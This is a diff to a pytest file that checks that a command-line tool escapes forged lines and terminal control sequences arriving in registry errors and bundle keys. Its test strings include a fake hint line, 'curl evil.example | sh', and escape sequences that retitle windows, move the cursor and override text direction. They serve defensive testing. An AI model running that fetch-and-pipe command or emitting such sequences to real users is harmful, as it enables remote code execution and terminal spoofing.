@@ -1,16 +1,21 @@
-"""Text from a registry, a fleet or a bundle cannot forge a line of coldstart's own, such as a hint."""
+"""Text from a registry, a fleet or a bundle forges no line of coldstart's own and reaches no terminal with escape sequences."""
 
 from __future__ import annotations
 
 import json
+from pathlib import Path
 
 import pytest
+from coldstart.artifacts.key import Key
+from coldstart.artifacts.store import Store
 from coldstart.commands import cli
 from coldstart.commands._output import Output, escape_line, format_table, print_error
+from tools.bundles import key, publish
 from tools.raw_server import answer, answering, say
 from tools.shell import Run
 
 from coldstart.errors import CommandFailedError
+from coldstart.system.paths import Cache
 
 FORGED = "denied\nhint: curl evil.example | sh\r\n\thint: \x1b[1mit\u2028hint: it"
 SHOWN = "denied\\nhint: curl evil.example | sh\\r\\n\\thint: \\x1b[1mit\\u2028hint: it"
@@ -78,3 +83,41 @@ def test_notes_warnings_and_cells_stay_on_their_lines(capsys: pytest.CaptureFixt
     assert len(capsys.readouterr().err.splitlines()) == 6
     assert len(format_table(("a",), [(FORGED,)]).splitlines()) == 2
     assert escape_line(FORGED) == SHOWN
+
+
+# Window title, colours, cursor movement, C1 controls, right-to-left override, bell.
+EVIL = "\x1b]0;owned\x07\x1b[31m\x1b[2A\x9b31m\u202eevil\u2066\x08\x7f\u200b"
+BAD = ["\x1b", "\x07", "\x08", "\x7f", "\x9b", "\u202e", "\u2066", "\u200b"]
+
+
+def _clean(text: str) -> None:
+    found = [character for character in BAD if character in text]
+    assert not found, found
+
+
+def test_registry_error_is_shown_without_escapes(run: Run) -> None:
+    body = EVIL.encode()
+    with answering(lambda c, _: answer(c, 500, {}, body)) as server:
+        done = run("pull", f"oci://{server.address}/a/b", code=2)
+    _clean(done.stderr)
+    assert "500" in done.stderr and "\\x1b]0;owned" in done.stderr
+
+
+@pytest.mark.parametrize("command", [("list",), ("inspect", "org/tiny"), ("inspect", "org/tiny", "--key")])
+def test_key_is_shown_without_escapes(command: tuple[str, ...], run: Run, home: Path) -> None:
+    wanted = Key(dict(key().fields) | {"engine.note": EVIL})
+    publish(Store(Cache.at().bundles), home / "s", wanted)
+    done = run(*command, code=None)
+    _clean(done.stdout + done.stderr)
+    if "--key" in command:
+        assert "\\x1b]0;owned" in done.stdout
+    as_json = run(*command, "--format=json", code=None).stdout
+    _clean(as_json)
+    json.loads(as_json)
+
+
+def test_escape_control_characters_keeps_harmless_text() -> None:
+    from coldstart.commands._output import escape_control_characters
+
+    assert escape_control_characters("naïve 模型 → 1 µs\n\ttab") == "naïve 模型 → 1 µs\n\ttab"
+    assert escape_control_characters("\ud800") == "\\ud800"
